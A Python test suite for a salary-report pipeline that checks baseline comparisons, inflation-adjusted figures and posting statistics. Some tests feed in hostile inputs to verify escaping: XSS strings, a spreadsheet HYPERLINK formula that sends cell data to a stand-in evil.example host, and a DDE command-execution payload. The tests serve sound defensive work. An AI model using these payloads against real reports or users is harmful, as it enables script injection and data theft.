"""The report: one CSV row per baseline, live figures when stored, hostile text escaped."""

from __future__ import annotations

import csv
import re
from datetime import UTC, date, datetime, timedelta

import pytest

from dashboards.report import breakable, build_report, markdown_escape, spreadsheet_safe
from pipeline.baselines import load_baselines
from pipeline.db import session_factory, upgrade
from pipeline.models import (
    JobPostingRecord,
    PipelineRun,
    PriceIndex,
    QuarantineRecord,
    SalaryObservation,
)
from pipeline.postings import clean_posting
from pipeline.store import record_crawl, start_run, sync_baselines, upsert_postings

HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)> | **bold** [link](javascript:1)'


def seed(url: str) -> None:
    upgrade(url)
    with session_factory(url).begin() as session:
        start_run(session, "r1")
        sync_baselines(session, load_baselines())
        record_crawl(session, "r1", "greenhouse", "ok", None, 3, {})
        record_crawl(
            session,
            "r1",
            "glassdoor",
            "blocked",
            "1 responses blocked (challenge), first at https://www.glassdoor.com/x",
            0,
            {},
        )
        rows = [
            clean_posting(
                {
                    "kind": "job_posting",
                    "source": "greenhouse",
                    "url": f"https://x/{i}",
                    "jobPostingId": str(i),
                    "jobTitle": title,
                    "baseSalary": {"raw": pay},
                    "payOrigin": "posted",
                }
            )
            for i, (title, pay) in enumerate(
                [
                    (HOSTILE, "$100,000 - $140,000 USD"),
                    ("Information Security Manager", "$150,000 - $170,000 USD"),
                    ("IT Security Manager", "$10 - $20 per year"),  # implausible: not averaged
                ]
            )
        ]
        upsert_postings(session, rows, "r1")
        session.add(
            SalaryObservation(
                source="comparably",
                role_query="cybersecurity manager",
                geography="US",
                metric="average",
                value=131_000,
                currency="USD",
                period="year",
                observed_on=date(2026, 11, 20),
                url="https://www.comparably.com/x",
                raw="$131,000",
            )
        )


HOSTILE_JS = (
    '<script>window.__pwned = 1; alert("pwned")</script><img src=x onerror="window.__pwned = 2">'
)
R1_START, R2_START = datetime(2026, 1, 10, 10, 0), datetime(2026, 6, 10, 10, 0)
EARLY, LATE = datetime(2026, 1, 10, 10, 3), datetime(2026, 6, 10, 10, 3)
NOW = datetime(2026, 6, 11, 9, 0, tzinfo=UTC)
# CPI-U: January 2022 as published; the latest month made up so that prices rose exactly 25%.
CPI_JAN_2022, CPI_LATEST = 281.148, 351.435


def _posting(i: int, **kw) -> JobPostingRecord:
    lo, hi = kw.pop("pay", (None, None))
    values = {
        "source": "greenhouse",
        "source_id": str(i),
        "url": f"https://example.com/jobs/{i}",
        "title": "Security Manager",
        "company": f"Company {i}",
        "title_family": "security_manager",
        "country": "US",
        "pay_origin": "posted" if lo is not None else None,
        "pay_currency": "USD" if lo is not None else None,
        "pay_period": "year" if lo is not None else None,
        "annual_min_usd": lo,
        "annual_max_usd": hi,
        "status": "open",
        "content_hash": f"h{i}",
        "first_seen": EARLY,
        "last_seen": LATE,
        "last_run_id": "r2",
    }
    values.update(kw)
    return JobPostingRecord(**values)


def seed_market(url: str, seniority_text: str = HOSTILE_JS) -> None:
    """Two runs, salary figures, CPI, BLS and postings with exactly known statistics.

    Usable sample (open, security_manager, posted, plausible, duplicates merged), annual
    midpoints in $k: US 200 180 150 130 110 120 (SF: 200 180), plus 100 in London.
    """
    upgrade(url)
    with session_factory(url).begin() as session:
        sync_baselines(session, load_baselines())
        session.add_all(
            [
                PipelineRun(
                    run_id="r1",
                    started_at=R1_START,
                    finished_at=R1_START + timedelta(minutes=5),
                    status="completed",
                    counts={"postings_stored": 9, "quarantined": 1},
                ),
                PipelineRun(
                    run_id="r2",
                    started_at=R2_START,
                    finished_at=R2_START + timedelta(minutes=5),
                    status="completed",
                    counts={"postings_stored": 13, "quarantined": 2},
                ),
            ]
        )
        session.flush()
        record_crawl(session, "r1", "greenhouse", "ok", None, 9, {})
        record_crawl(
            session,
            "r2",
            "greenhouse",
            "ok",
            None,
            11,
            {
                "downloader/request_count": 12,
                "downloader/response_count": 12,
                "finish_reason": "finished",
                "elapsed_time_seconds": 4.5,
            },
        )
        record_crawl(
            session,
            "r2",
            "careers",
            "partial",
            "1 responses blocked (forbidden)",
            5,
            {
                "downloader/request_count": 7,
                "secjobs/blocked/forbidden": 1,
                "finish_reason": "closespider_timeout",
                "elapsed_time_seconds": 60.2,
            },
        )
        record_crawl(session, "r2", "glassdoor", "blocked", f"challenge {HOSTILE_JS}", 0, {})
        london = {"country": "GB", "city": "London", "source": "careers"}
        sf = {"metro_code": "41860", "metro_name": "San Francisco-Oakland-Fremont, CA"}
        ny = {"metro_code": "35620", "metro_name": "New York-Newark-Jersey City, NY-NJ"}
        austin = {"metro_code": "12420", "metro_name": "Austin-Round Rock-San Marcos, TX"}
        session.add_all(
            [
                _posting(
                    1,
                    pay=(180_000, 220_000),
                    seniority="senior",
                    first_seen=LATE,
                    company="Acme",
                    requirements={
                        "certifications": ["CISSP", "CISM"],
                        "degree": "bachelor",
                        "degree_required": True,
                        "years_experience": 7,
                    },
                    **sf,
                ),
                _posting(
                    2,
                    pay=(160_000, 200_000),
                    seniority="manager",
                    first_seen=LATE,
                    company="Acme",
                    requirements={
                        "certifications": ["cissp"],
                        "degree": "Master's",
                        "degree_required": False,
                        "years_experience": 10,
                        "equivalent_experience_ok": True,
                    },
                    **sf,
                ),
                _posting(
                    3,
                    pay=(140_000, 160_000),
                    seniority="manager",
                    cluster_id="c3",
                    requirements={
                        "certifications": ["ISSMP", "CISA"],
                        "degree": "Bachelor's degree",
                        "degree_required": True,
                        "years_experience": 5,
                    },
                    **ny,
                ),
                _posting(4, pay=(120_000, 140_000), seniority="senior", requirements={}, **ny),
                _posting(5, pay=(100_000, 120_000), seniority="manager", **austin),
                # The same job as 3 on another source: merged, not counted twice.
                _posting(6, pay=(140_000, 160_000), source="careers", cluster_id="c3", **ny),
                _posting(
                    7,
                    pay=(200_000, 240_000),
                    pay_origin="estimate",
                    source="careers",
                    requirements={"certifications": ["CISSP"], "degree": "PhD"},
                ),
                _posting(
                    8,
                    pay=(90_000, 110_000),
                    pay_origin="parsed",
                    source="careers",
                    requirements={
                        "degree": "MBA",
                        "degree_required": True,
                        "years_experience": "12+",
                    },
                ),
                _posting(9, pay=(10, 20), pay_flag="implausible_annual"),
                _posting(
                    10,
                    pay=(280_000, 320_000),
                    status="closed",
                    closed_at=R2_START + timedelta(minutes=4),
                ),
                _posting(
                    11,
                    pay=(240_000, 260_000),
                    title_family="software_engineer",
                    title="Software Engineer",
                ),
                _posting(
                    12,
                    pay=(100_000, 140_000),
                    title=HOSTILE_JS,
                    company=HOSTILE_JS,
                    seniority=seniority_text,
                    **austin,
                ),
                _posting(13, pay=(90_000, 110_000), **london),
            ]
        )
        session.add_all(
            [
                PriceIndex(series_id="CUUR0000SA0", period=date(2021, 12, 1), value=278.802),
                PriceIndex(series_id="CUUR0000SA0", period=date(2022, 1, 1), value=CPI_JAN_2022),
                PriceIndex(series_id="CUUR0000SA0", period=date(2026, 4, 1), value=CPI_LATEST),
                # Another series must not be taken for CPI-U.
                PriceIndex(series_id="CUSR0000SA0", period=date(2026, 5, 1), value=999.0),
            ]
        )

        def obs(source, geography, metric, value, day, role="cybersecurity manager"):
            return SalaryObservation(
                source=source,
                role_query=role,
                geography=geography,
                metric=metric,
                value=value,
                currency="USD",
                period="year",
                observed_on=day,
                url=f"https://example.com/{source}",
            )

        session.add_all(
            [
                obs("comparably", "US", "average", 125_000, date(2026, 1, 10)),
                obs("comparably", "US", "average", 131_000, date(2026, 6, 10)),
                obs("comparably", "San Francisco, CA", "average", 190_000, date(2026, 6, 10)),
                obs("ziprecruiter", "US", "average", 150_000, date(2026, 6, 10)),
                obs("ziprecruiter", "US", "high", 185_000, date(2026, 6, 10)),
                obs("bls_oews", "US", "mean", 187_990, date(2025, 5, 1), "11-3021"),
                obs("bls_oews", "San Francisco, CA", "mean", 245_000, date(2025, 5, 1), "11-3021"),
                obs("bls_oews", "US", "mean", 124_910, date(2025, 5, 1), "15-1212"),
            ]
        )
        session.add_all(
            [
                QuarantineRecord(
                    source="careers",
                    fingerprint=f"f{i}",
                    stage="crawl",
                    reason="page_failure:no_jsonld",
                    payload="{}",
                    first_seen=EARLY,
                    last_seen=LATE,
                    times_seen=2,
                )
                for i in range(2)
            ]
            + [
                QuarantineRecord(
                    source="greenhouse",
                    fingerprint="g",
                    stage="clean",
                    reason="missing_jobTitle",
                    payload="{}",
                    first_seen=LATE,
                    last_seen=LATE,
                    times_seen=1,
                )
            ]
        )


def test_report_files_and_baseline_rows(sqlite_url, tmp_path):
    seed(sqlite_url)
    paths, markdown, table = build_report(sqlite_url, tmp_path / "reports")

    assert paths.html.exists() and paths.markdown.exists() and paths.csv.exists()
    assert paths.latest == tmp_path / "reports" / "latest"
    # Built by run r1 while it runs: its row in the runs table says so, not a bare "running".
    assert "this report's run</span></td><td" in paths.html.read_text()
    with paths.csv.open() as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(load_baselines()) == len(table) == 6
    comparably = rows[0]
    assert (comparably["source"], comparably["live_usd"], comparably["status"]) == (
        "comparably",
        "131000.0",
        "live",
    )
    assert comparably["change_usd"] == "13420.0"  # 131,000 - 117,580
    glassdoor = [r for r in rows if r["source"] == "glassdoor"]
    assert all(r["status"] == "blocked" and "challenge" in r["reason"] for r in glassdoor)
    zip_rows = [r for r in rows if r["source"] == "ziprecruiter"]
    assert all(r["status"] == "no live data yet" and r["live_usd"] == "" for r in zip_rows)
    # Median of the two plausible midpoints (120k, 160k); the implausible one is excluded.
    assert "$140,000" in markdown
    assert "Postings stored: 3" in markdown


def test_scraped_text_is_escaped_everywhere(sqlite_url, tmp_path):
    seed(sqlite_url)
    with session_factory(sqlite_url).begin() as session:
        record_crawl(session, "r1", "greenhouse", "partial", HOSTILE, 3, {})
    paths, markdown, _ = build_report(sqlite_url, tmp_path / "reports")
    html = paths.html.read_text()
    assert "<script>alert" not in html and "<img src=x" not in html
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in html
    assert "<script" not in markdown and "<img" not in markdown
    assert "&lt;script&gt;" in markdown and "\\| \\*\\*bold\\*\\*" in markdown


def test_csv_cells_never_start_a_spreadsheet_formula(sqlite_url, tmp_path):
    seed_market(sqlite_url)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Apply")'
    with session_factory(sqlite_url).begin() as session:
        session.add(
            _posting(
                900,
                title="@SUM(1+1) Security Manager",
                company=formula,
                metro_name="+cmd|' /C calc'!A0",
                pay=(400_000, 420_000),  # the best paid: first in top-postings
            )
        )
    paths, _, _ = build_report(sqlite_url, tmp_path / "reports")
    top = _csv_rows(paths.html.parent / "top_postings.csv")[0]
    assert top["company"] == "'" + formula
    assert top["title"] == "'@SUM(1+1) Security Manager"
    assert top["metro"] == "'+cmd|' /C calc'!A0"
    assert top["annual_usd"] == "410000.0"
    # Numbers, negative ones too, are not text: no apostrophe.
    assert [spreadsheet_safe(v) for v in ("-6.3", "-12", 5, "Acme")] == ["-6.3", "-12", 5, "Acme"]


def test_breakable_escapes_first_then_allows_breaks_at_colons():
    assert breakable('a:<img src=x onerror="y:z">') == (
        "a:<wbr>&lt;img src=x onerror=&#34;y:<wbr>z&#34;&gt;"
    )


def test_markdown_escape_keeps_cells_on_one_line():
    assert markdown_escape("a\n|b <i>") == "a \\|b &lt;i&gt;"


def _csv_rows(path):
    with path.open(newline="") as handle:
        return list(csv.DictReader(handle))


def _by_key(rows, *keys):
    return {tuple(r[k] for k in keys): r for r in rows}


def test_article_vs_today_with_inflation_and_postings(sqlite_url, tmp_path):
    seed_market(sqlite_url)
    paths, _, table = build_report(sqlite_url, tmp_path / "reports", now=NOW)
    rows = _csv_rows(paths.csv)
    assert list(rows[0])[:11] == [
        "source",
        "metric",
        "geography",
        "baseline_usd",
        "baseline_as_of",
        "live_usd",
        "live_observed_on",
        "change_usd",
        "change_pct",
        "status",
        "reason",
    ]
    assert len(rows) == len(table) == 6
    rows = _by_key(rows, "source", "metric", "geography")
    us = rows[("comparably", "average", "US")]
    # The latest of two observations; CPI rose 25% from January 2022 to April 2026.
    assert (us["live_usd"], us["live_observed_on"], us["change_usd"], us["change_pct"]) == (
        "131000.0",
        "2026-06-10",
        "13420.0",
        "11.41",
    )
    assert (us["baseline_today_usd"], us["cpi_month"], us["beats_inflation"]) == (
        "146975.0",
        "2026-04",
        "no",
    )
    # Postings: mean of 200, 180, 150, 130, 110, 120 ($k); London, the estimate, parsed pay,
    # flagged pay, the closed posting, another family and the merged duplicate left out.
    assert (us["postings_statistic"], us["postings_usd"], us["postings_n"]) == (
        "mean",
        "148333.33",
        "6",
    )
    # Seeded bootstrap: the same interval on every run.
    assert (us["postings_ci_low_usd"], us["postings_ci_high_usd"]) == ("123333.33", "175000.0")
    sf = rows[("comparably", "average", "San Francisco, CA")]
    assert (sf["postings_usd"], sf["postings_n"], sf["baseline_today_usd"]) == (
        "190000.0",
        "2",
        "215000.0",
    )
    high = rows[("ziprecruiter", "high", "US")]
    assert (high["postings_statistic"], high["postings_usd"], high["live_usd"]) == (
        "90th percentile",
        "190000.0",
        "185000.0",
    )
    glassdoor = rows[("glassdoor", "average", "US")]
    assert (glassdoor["status"], glassdoor["live_usd"], glassdoor["beats_inflation"]) == (
        "blocked",
        "",
        "",
    )
    assert glassdoor["baseline_today_usd"] == "153412.5"


def test_parsed_pay_can_be_included(sqlite_url, tmp_path):
    seed_market(sqlite_url)
    paths, _, _ = build_report(sqlite_url, tmp_path / "reports", include_parsed=True, now=NOW)
    us = _by_key(_csv_rows(paths.csv), "source", "metric", "geography")[
        ("comparably", "average", "US")
    ]
    assert (us["postings_usd"], us["postings_n"]) == ("141428.57", "7")  # + the parsed 100k


def test_san_francisco_premium_and_bls_reference(sqlite_url, tmp_path):
    seed_market(sqlite_url)
    paths, markdown, _ = build_report(sqlite_url, tmp_path / "reports", now=NOW)
    premium = _by_key(_csv_rows(paths.tables["sf-premium"]), "figure")
    assert premium[("Comparably average",)]["premium_pct"] == "45.04"  # 190,000 / 131,000
    assert premium[("Comparably average",)]["article_premium_pct"] == "46.28"  # 172,000/117,580
    bls = premium[("BLS OEWS 11-3021 computer and information systems managers",)]
    assert (bls["us_usd"], bls["sf_usd"], bls["premium_pct"]) == ("187990.0", "245000.0", "30.33")
    postings = premium[("Job postings, mean of posted pay",)]
    assert (postings["premium_pct"], postings["n_sf"]) == ("28.09", "2")
    assert (postings["premium_ci_low_pct"], postings["premium_ci_high_pct"]) == ("6.93", "55.84")
    assert (
        "no ZipRecruiter figure for both San Francisco and the US yet"
        in (premium[("ZipRecruiter average",)]["reason"])
    )
    reference = _csv_rows(paths.tables["bls-reference"])
    assert [(r["soc_code"], r["geography"], r["value_usd"]) for r in reference] == [
        ("11-3021", "US", "187990.0"),
        ("11-3021", "San Francisco, CA", "245000.0"),
        ("15-1212", "US", "124910.0"),
    ]
    assert "| 15-1212 | Information security analysts | US | mean | $124,910 |" in markdown


def test_trend_follows_every_run_and_observation(sqlite_url, tmp_path):
    seed_market(sqlite_url)
    paths, _, _ = build_report(sqlite_url, tmp_path / "reports", now=NOW)
    trend = _csv_rows(paths.tables["trend"])
    series = {}
    for row in trend:
        series.setdefault(row["series"], []).append((row["date"], row["value"], row["n"]))
    assert series["Comparably average (US)"] == [
        ("2022-01-01", "117580.0", ""),
        ("2026-01-10", "125000.0", ""),
        ("2026-06-10", "131000.0", ""),
    ]
    # Run 1: postings 3, 4, 5, 12 and 10 (closed only during run 2); run 2: today's sample.
    assert series["Postings mean (US)"] == [
        ("2026-01-10", "162000.0", "5"),
        ("2026-06-10", "148333.33", "6"),
    ]
    assert series["Comparably SF premium"] == [
        ("2022-01-01", "46.28", ""),
        ("2026-06-10", "45.04", ""),
    ]


def test_distribution_requirements_and_quality(sqlite_url, tmp_path):
    seed_market(sqlite_url)
    paths, markdown, _ = build_report(sqlite_url, tmp_path / "reports", now=NOW)
    metros = _csv_rows(paths.tables["pay-by-metro"])
    assert [(r["metro"], r["n"], r["median_usd"]) for r in metros] == [
        ("San Francisco-Oakland-Fremont, CA", "2", "190000.0"),
        ("New York-Newark-Jersey City, NY-NJ", "2", "140000.0"),
        ("Austin-Round Rock-San Marcos, TX", "2", "115000.0"),
    ]
    employers = _csv_rows(paths.tables["pay-by-employer"])
    assert (employers[0]["employer"], employers[0]["n"]) == ("Acme", "2")
    requirements = {
        r["asks_for"]: (r["postings"], r["of_postings"], r["required"], r["preferred"])
        for r in _csv_rows(paths.tables["requirements"])
    }
    assert requirements["CISSP"] == ("3", "6", "", "")  # "cissp" counted as CISSP
    assert requirements["ISSMP"] == ("1", "6", "", "")
    assert requirements["Bachelor's or higher"] == ("5", "6", "3", "2")
    assert requirements["Master's or higher"] == ("3", "6", "1", "2")
    assert requirements["10+ years"] == ("2", "6", "", "")  # 10 and "12+"
    claims = [
        (r["claim"], r["postings"], r["pct"]) for r in _csv_rows(paths.tables["article-claims"])
    ]
    assert claims == [
        ("Employers want a CISSP or an ISSMP", "4", "66.7"),
        ("A bachelor's degree is expected", "5", "83.3"),
        ("A master's degree is essential", "1", "16.7"),
    ]
    quality = {
        (r["what"], r["detail"]): r["count"] for r in _csv_rows(paths.tables["data-quality"])
    }
    assert quality[("duplicates merged", "")] == "1"
    assert quality[("pay excluded", "platform estimate")] == "1"
    assert quality[("pay flagged", "implausible_annual")] == "1"
    quarantine = _csv_rows(paths.tables["quarantine"])
    assert [(q["reason"], q["records"], q["times_seen"]) for q in quarantine] == [
        ("page_failure:no_jsonld", "2", "4"),
        ("missing_jobTitle", "1", "1"),
    ]
    sources = _by_key(_csv_rows(paths.tables["sources"]), "source")
    assert (
        sources[("careers",)]["pay_coverage_pct"],
        sources[("careers",)]["blocked_responses"],
    ) == (
        "50.0",
        "1",
    )
    assert sources[("glassdoor",)]["status"] == "blocked"
    html = paths.html.read_text()
    assert '<div class="note">finished after 4&nbsp;s</div>' in html  # greenhouse, 4.5 s
    assert '<div class="note">stopped: closespider_timeout after 60&nbsp;s</div>' in html
    assert "0 of 0" not in html  # a source with no open postings has no coverage to show
    assert '<td class="text">page_failure:<wbr>no_jsonld</td>' in html  # wraps at the colon
    assert (
        "| Employers want a CISSP or an ISSMP | postings naming CISSP or ISSMP | 4 of 6 (67%) |"
        in (markdown)
    )


def test_artifacts_have_stable_keys_and_match_the_files(sqlite_url, tmp_path):
    seed_market(sqlite_url)
    paths, markdown, table = build_report(sqlite_url, tmp_path / "reports", now=NOW)
    keys = [a.key for a in paths.artifacts]
    assert keys[:2] == ["secjobs-report", "baseline-comparison"]
    assert len(keys) == len(set(keys)) and all(
        re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", k) for k in keys
    )
    assert paths.artifacts[0].markdown == markdown
    assert set(paths.tables) == set(keys[1:])
    for artifact in paths.artifacts[1:]:
        on_disk = _csv_rows(paths.tables[artifact.key])
        assert on_disk == [{k: str(v) for k, v in row.items()} for row in artifact.table]
    assert paths.artifacts[1].table == table


def test_empty_database_says_no_data_yet(sqlite_url, tmp_path):
    upgrade(sqlite_url)
    paths, markdown, table = build_report(sqlite_url, tmp_path / "reports", now=NOW)
    assert table == []
    assert "No data yet: no postings stored yet." in markdown
    assert "No data yet: no BLS OEWS figure for 11-3021 or 15-1212 stored yet." in markdown
    html = paths.html.read_text()
    assert "Plotly.newPlot" not in html and "plotly.js v" not in html
    assert "no CPI-U (CUUR0000SA0) values stored yet" in html
    for key, path in paths.tables.items():
        rows = _csv_rows(path)
        if key == "sf-premium":  # one row per source, each saying why there is no figure
            assert len(rows) == 6 and all(r["reason"] and not r["premium_pct"] for r in rows)
        elif key == "data-quality":
            assert {r["count"] for r in rows} == {"0"}
        else:
            assert rows == [], key


def test_unclassified_postings_say_why(sqlite_url, tmp_path):
    upgrade(sqlite_url)
    with session_factory(sqlite_url).begin() as session:
        sync_baselines(session, load_baselines())
        # As the first release stored postings: no cleaning columns filled yet.
        session.add(_posting(1, pay=(150_000, 170_000), title_family=None, country=None))
    paths, markdown, _ = build_report(sqlite_url, tmp_path / "reports", now=NOW)
    assert "No data yet: postings are not classified by title family yet." in markdown
    rows = _csv_rows(paths.csv)
    assert {r["postings_n"] for r in rows} == {"0"}
    assert {r["postings_usd"] for r in rows} == {""}


def test_index_lists_every_run_newest_first(sqlite_url, tmp_path):
    seed(sqlite_url)
    reports = tmp_path / "reports"
    build_report(sqlite_url, reports, now=datetime(2026, 6, 1, tzinfo=UTC))
    paths, _, _ = build_report(sqlite_url, reports, now=NOW)
    index = paths.index.read_text()
    assert paths.index == reports / "index.html"
    assert index.index('href="2026-06-11/index.html"') < index.index('href="2026-06-01/index.html"')
    assert (reports / "2026-06-01" / "baseline_comparison.csv").exists()
    assert (reports / "latest" / "index.html").read_text() == paths.html.read_text()


def test_listings_from_sources_that_ask_for_it_are_credited(sqlite_url, tmp_path):
    upgrade(sqlite_url)
    with session_factory(sqlite_url).begin() as session:
        start_run(session, "r1")
        record_crawl(session, "r1", "adzuna", "ok", None, 1, {})
        record_crawl(session, "r1", "remotive", "ok", None, 0, {})
        upsert_postings(
            session,
            [
                clean_posting(
                    {
                        "kind": "job_posting",
                        "source": "adzuna",
                        "url": "https://www.adzuna.com/x/1",
                        "jobPostingId": "1",
                        "jobTitle": "Cybersecurity Manager",
                    }
                )
            ],
            "r1",
        )
    paths, _, _ = build_report(sqlite_url, tmp_path / "reports")
    html = paths.html.read_text()
    assert '<a href="https://www.adzuna.com/" rel="noopener">Jobs by Adzuna</a>' in html
    assert "remotive.com" not in html  # no Remotive listing stored: nothing to credit


@pytest.mark.postgres
def test_postgresql_gives_the_same_report(postgres_url, sqlite_url, tmp_path):
    """The report's SQL (aggregates, JSON read as text, datetimes) means the same on both."""
    files = {}
    for name, url in (("sqlite", sqlite_url), ("postgresql", postgres_url)):
        seed_market(url, seniority_text="<b>x</b>")  # PostgreSQL holds seniority to 16 chars
        paths, markdown, _ = build_report(url, tmp_path / name, now=NOW)
        # Run times are as the database hands them back (aware in PostgreSQL): compared apart.
        files[name] = {k: p.read_text() for k, p in paths.tables.items() if k != "runs"}
        files[name]["report.md"] = markdown
    assert files["postgresql"] == files["sqlite"]


def test_large_groups_are_charted_from_their_figures(sqlite_url, tmp_path, monkeypatch):
    """Above the limits, charts get bins and quartiles rather than a point per posting; the
    tables are the same."""
    from dashboards import charts, data

    seed_market(sqlite_url)
    small, _, _ = build_report(sqlite_url, tmp_path / "small", now=NOW)
    monkeypatch.setattr(data, "BOX_VALUES", 1)
    monkeypatch.setattr(charts, "HISTOGRAM_VALUES", 1)
    large, _, _ = build_report(sqlite_url, tmp_path / "large", now=NOW)
    for key, path in small.tables.items():
        assert large.tables[key].read_text() == path.read_text(), key
    html = large.html.read_text()
    assert '"histfunc":"sum"' in html and '"q1":[' in html and '"upperfence":[' in html


def test_every_spider_has_the_display_name_its_source_file_gives(monkeypatch):
    from scrapy.spiderloader import SpiderLoader
    from scrapy.utils.project import get_project_settings

    from dashboards.sources import source_name
    from spiders.sources import source_spec

    monkeypatch.setenv("SCRAPY_SETTINGS_MODULE", "spiders.settings")
    spiders = SpiderLoader.from_settings(get_project_settings()).list()
    assert "ecb_fx" in spiders and len(spiders) >= 18
    assert {source_name(s) for s in spiders} == {source_spec(s).display_name for s in spiders}
    assert (source_name("remoteok"), source_name("postings")) == ("Remote OK", "Job postings")
